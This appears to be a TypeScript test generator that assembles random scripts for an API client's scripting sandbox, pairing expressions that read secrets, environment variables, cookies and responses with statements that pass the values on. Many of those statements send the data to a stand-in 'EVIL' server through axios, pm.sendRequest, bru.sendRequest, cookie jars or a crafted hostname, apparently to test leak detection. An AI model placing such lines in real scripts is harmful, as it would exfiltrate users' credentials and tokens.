/** A line that random scripts contain. `GOOD` and `EVIL` are the two servers. */
export interface ScriptLine {
  /** Identifies the line in counts. */
  readonly kind: string;
  readonly code: string;
  /** The line ends the script. */
  readonly ends?: true;
}

const lines = (...codes: readonly string[]): readonly ScriptLine[] => codes.map((code) => ({ kind: code, code }));
const named = (all: Readonly<Record<string, string>>): readonly ScriptLine[] => Object.entries(all).map(([kind, code]) => ({ kind, code }));

const text = (of: string): string => `String((${of}) ?? "")`;

/** Expressions that read a value, in any script. */
const sources: readonly ScriptLine[] = [
  ...lines(
    'tool.interpolate("{{$secret.K}}")',
    'tool.interpolate("{{$env.E}}")',
    'tool.interpolate("{{v0}} {{d1}}")',
    'tool.interpolate("{{c0}} {{c1}}")',
    'tool.getVar("v0")',
    'tool.getVar("c0")',
    'tool.vars().v1',
    'JSON.stringify(tool.vars())',
    'request.headers["X-H"]',
    'request.url',
    'request.body',
    'pm.environment.get("v1")',
    'pm.iterationData.get("c0")',
    'pm.collectionVariables.toObject().c1',
    'pm.variables.replaceIn("{{d0}} {{c1}}")',
    'pm.request.headers.get("X-H")',
    'pm.request.url.toString()',
    'bru.getVar("v0")',
    'bru.getEnvVar("c1")',
    'bru.getProcessEnv("E")',
    'bru.getSecretVar("K")',
    'bru.interpolate("{{v1}} {{process.env.E}}")',
    'req.getHeader("X-H")',
    'req.getUrl()',
    'JSON.stringify(req.getHeaders())',
    'JSON.stringify(pm.request)',
    'JSON.stringify(pm.request.headers.toObject())',
    'bru.getCollectionVar("c0")',
    'environment.v0',
    'pm.globals.replaceIn("{{v0}}")',
    'insomnia.baseEnvironment.get("v1")',
    'pm.cookies.toString()',
    'JSON.stringify(bru.cookies.all())',
    'pm.request.url.query.toString()',
  ),
  ...named({
    'jar.getAll': 'JSON.stringify(await pm.cookies.jar().getAll("EVIL/"))',
    'jar.getCookie': '(await bru.cookies.jar().getCookie("GOOD/", "k"))?.value',
    'tool.jwt.sign': 'tool.jwt.sign({ x: tool.getVar("v0") ?? "" }, { alg: "HS256", key: "{{$secret.K}}" })',
    'axios.get, response': `(await axios.get("GOOD/", { params: { u: ${text('tool.getVar("v1")')} } })).data.u`,
    'require("axios").post, response': `(await require("axios").post("GOOD/", ${text('tool.getVar("c1")')})).data.b`,
    'pm.sendRequest, response':
      '(await pm.sendRequest({ url: "GOOD/?u={{v0}}", method: "POST", header: { "X-H": "{{d0}}" }, body: { mode: "raw", raw: "{{c1}} {{v1}}" } })).text()',
    'bru.sendRequest, response':
      '(await bru.sendRequest({ method: "POST", url: "GOOD/", headers: { "X-H": "{{process.env.E}}" }, data: "{{d1}} {{c0}}" })).data.b',
  }),
];

/** Expressions that read a value in scripts after the response. */
const ofResponse = lines(
  'response.text',
  'response.body.h',
  'response.headers["X-Back"]',
  'pm.response.text()',
  'pm.response.json().u',
  'pm.response.headers.get("X-Back")',
  'responseBody',
  'res.getHeader("X-Back")',
  'JSON.stringify(res.getBody())',
  'res.getDataBuffer().toString()',
  'pm.response.dataURI()',
);

/** Changes of a text. */
export const transforms = [
  's',
  's.slice(0, 8)',
  '[...s].reverse().join("")',
  'hex(s)',
  's.toUpperCase()',
  '[...s].join("-")',
  'tool.base64(s.slice(1))',
];

/** Statements that pass `x` on, in any script. */
const sinks: readonly ScriptLine[] = [
  ...lines(
    'tool.setVar("v0", x)',
    'tool.setVar("v1", { list: [x] })',
    'tool.setVar("c1", x)',
    'pm.environment.set("v0", x)',
    'pm.collectionVariables.set("c0", x)',
    'postman.setEnvironmentVariable("v1", x)',
    'bru.setVar("v1", x)',
    'bru.setEnvVar("v0", x)',
    'console.log(x)',
    'console.table([{ x }])',
    'tool.test(x, () => tool.expect(x).to.equal("no"))',
    'pm.test(x, () => pm.expect(x).to.equal("no"))',
    'tests[x] = false',
    'test(x, () => expect(x).to.equal("no"))',
    'pm.execution.setNextRequest(x)',
    'bru.runner.setNextRequest(x)',
    'pm.visualizer.set(x, { x })',
    'bru.setCollectionVar("c1", { x })',
    'environment.v1 = x',
    'insomnia.environment.set("v0", x)',
    'globalThis.res?.setBody({ x })',
    'console.error(new Error(x), pm.request)',
  ),
  ...named({
    'pm.cookies.jar().set': 'await pm.cookies.jar().set("EVIL/", "k", encodeURIComponent(x))',
    'jar.setCookie, a piece': 'await bru.cookies.jar().setCookie("GOOD/", { key: "g", value: encodeURIComponent(x).slice(0, 2) })',
    'jar.setCookie, a name': 'await bru.cookies.jar().setCookie("GOOD/", "n" + x.replace(/\\W/g, "-"), "1")',
    'jar.setCookie, many pieces':
      'for (const [i, c] of [...x].slice(0, 20).entries()) await bru.cookies.jar().setCookie("EVIL/", "c" + i, encodeURIComponent(c))',
    'tool.jwt.sign, set': 'tool.setVar("v1", tool.jwt.sign({ x }, { alg: "HS256", key: "{{$secret.K}}" }))',
    'axios.get, the host': 'await axios.get("http://" + encodeURIComponent(x) + ".invalid/").catch((e) => console.log(String(e)))',
    'pm.sendRequest, the name of a header':
      'await pm.sendRequest({ url: "EVIL/", header: { [x]: "1" } }).catch((e) => console.log(String(e)))',
    'bru.sendRequest, the method': 'await bru.sendRequest({ url: "EVIL/", method: x }).catch((e) => console.log(String(e)))',
    'axios.post': 'await axios.post("EVIL/?s=" + encodeURIComponent(x), x, { headers: { "X-H": x } })',
    'axios.get': 'await axios.get("EVIL/", { params: { s: x } })',
    'axios.create': 'await axios.create({ baseURL: "EVIL" }).put("/" + encodeURIComponent(x), { x })',
    'bru.sendRequest': 'await bru.sendRequest({ method: "POST", url: "EVIL/?s=" + encodeURIComponent(x), data: x })',
    'pm.sendRequest': 'await pm.sendRequest({ url: "EVIL/?s=" + encodeURIComponent(x), method: "POST", body: { mode: "raw", raw: x } })',
    'pm.sendRequest, callback':
      'await new Promise((yes, no) => pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "urlencoded", urlencoded: [{ key: "s", value: x }] } }, (e) => (e ? no(e) : yes())))',
    'pm.sendRequest, placeholders': 'tool.setVar("v0", x); await pm.sendRequest("EVIL/?s={{v0}}&d={{d1}}&c={{c1}}")',
    'bru.sendRequest, callback':
      'await new Promise((yes, no) => bru.sendRequest({ method: "POST", url: "EVIL/", data: { x } }, (e) => (e ? no(e) : yes())))',
    'pm.sendRequest, the headers of pm.request':
      'await pm.sendRequest({ url: "EVIL/?s=" + encodeURIComponent(x), method: "POST", header: pm.request.headers, body: pm.request.body }).catch((e) => console.log(String(e)))',
    'axios.post, a form':
      'await axios.post("EVIL/", { x, list: [x] }, { headers: { "Content-Type": "application/x-www-form-urlencoded" } })',
  }),
];

/** Statements that write `x` into the request, or end the script, before the request is sent. */
const changes: readonly ScriptLine[] = [
  ...lines(
    'request.headers["X-S"] = x',
    'request.url += "&s=" + encodeURIComponent(x)',
    'request.body = x',
    'pm.request.headers.upsert({ key: "X-P", value: x })',
    'pm.request.url.addQueryParams([{ key: "p", value: encodeURIComponent(x) }])',
    'pm.request.body.update({ raw: x })',
    'pm.request.body = { mode: "graphql", graphql: { query: x } }',
    'pm.request.headers.add("X-L: " + x)',
    'pm.request.url.query.upsert({ key: "z", value: encodeURIComponent(x) })',
    'pm.request.headers.add({ key: "X-O", value: x }); await pm.sendRequest(pm.request).catch((e) => console.log(String(e)))',
    'req.setHeader("X-R", x)',
    'req.setBody({ x })',
    'req.setUrl(req.getUrl() + "&q=" + encodeURIComponent(x))',
  ),
  { kind: 'tool.skip(x)', code: 'tool.skip(x)', ends: true },
  { kind: 'throw x', code: 'throw new Error(x)', ends: true },
  { kind: 'a name of a header', code: 'pm.request.headers.add({ key: x.replace(/[^\\w]/g, "-"), value: "1" })' },
];

/** Sends of an earlier request, as expressions. */
export const sendsOf = (name: string): readonly ScriptLine[] => [
  { kind: 'tool.send', code: `(await tool.send("${name}")).text` },
  { kind: 'bru.runRequest', code: `JSON.stringify((await bru.runRequest("${name}")).data)` },
];

export const sourcesFor = (isAfter: boolean): readonly ScriptLine[] => [...sources, ...(isAfter ? ofResponse : [])];
export const sinksFor = (isAfter: boolean): readonly ScriptLine[] => [...sinks, ...(isAfter ? [] : changes)];

/** All kinds of lines, sources and sinks apart: `read KIND` and `pass KIND`. A mark in a script is an index of this list. */
export const allKinds: readonly string[] = [
  ...[...sources, ...ofResponse, ...sendsOf('')].map(({ kind }) => `read ${kind}`),
  ...[...sinks, ...changes].map(({ kind }) => `pass ${kind}`),
];

/** Variables by which a script marks the start and the end of a line. Their names are plain in every script. */
const namesOfMarks = { tried: 'markTried', ran: 'markRan' };
const mark = (what: keyof typeof namesOfMarks, kind: string): string => `tool.setVar("${namesOfMarks[what]}${allKinds.indexOf(kind)}", 1);`;

/**
 * One step of a script: reads a value, changes it and passes it on. Both lines are marked.
 * @param rethrows whether its error ends the script
 */
export function scriptStep(source: ScriptLine, transform: string, sink: ScriptLine, rethrows: boolean): string {
  const [read, pass] = [`read ${source.kind}`, `pass ${sink.kind}`];
  return [
    `try { ${mark('tried', read)} const s = ${text(source.code)}.replace(/[^ -~]/g, "").slice(0, 400); ${mark('ran', read)}`,
    `const x = ${transform}; ${mark('tried', pass)} ${sink.ends ? mark('ran', pass) : ''} ${sink.code}; ${mark('ran', pass)}`,
    `} catch (e) {${rethrows ? ' throw e; ' : ''}}`,
  ].join(' ');
}

/** Finds the marks in a text. */
export const marks = /mark(?:Tried|Ran)\d+/g;

/** The lines marked by the names of variables. */
export function marksIn(names: Iterable<string>): readonly { readonly kind: string; readonly hasRun: boolean }[] {
  return [...names].flatMap((name) => {
    const [, what, index] = /^mark(Tried|Ran)(\d+)$/.exec(name) ?? [];
    const kind = index === undefined ? undefined : allKinds[Number(index)];
    return kind === undefined ? [] : [{ kind, hasRun: what === 'Ran' }];
  });
}

export const isMark = (name: string): boolean => /^mark(?:Tried|Ran)\d+$/.test(name);
